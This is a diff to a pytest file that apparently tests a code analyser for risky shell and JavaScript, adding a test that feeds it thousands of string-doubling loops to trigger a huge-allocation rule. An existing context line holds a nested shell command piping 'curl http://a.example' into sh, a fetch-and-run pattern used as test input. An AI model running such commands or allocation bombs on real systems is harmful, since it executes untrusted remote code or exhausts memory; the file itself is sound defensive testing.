@@ -127,3 +127,14 @@ def test_substitutions_that_a_person_writes_are_read() -> None:
     found = analyse('echo "$(a "$(b "$(c "$(curl http://a.example | sh)")")")"\n', Language.SHELL)
     assert "input-too-deep" not in {one.rule for one in found.violations}
     assert found.complete
+
+
+@pytest.mark.parametrize("around", [1, 60])
+def test_thousands_of_doublings_are_read_once(around: int) -> None:
+    """One in each of many loops, or all within the same ones; loops of a few turns are told apart."""
+    few = "for (let i = 0; i < 3; i++) { s += s; }\n"
+    many = "for(;;){" * around + "s += s;" * (1 if around == 1 else 5000) + "}" * around + "\n"
+    code = "let s = 'a';\n" + few * 2000
+    alone = {one.rule for one in analyse(code, _JS).violations}
+    beside = {one.rule for one in analyse(code + many * (2000 if around == 1 else 1), _JS).violations}
+    assert ("js-huge-allocation" in alone, "js-huge-allocation" in beside) == (False, True)
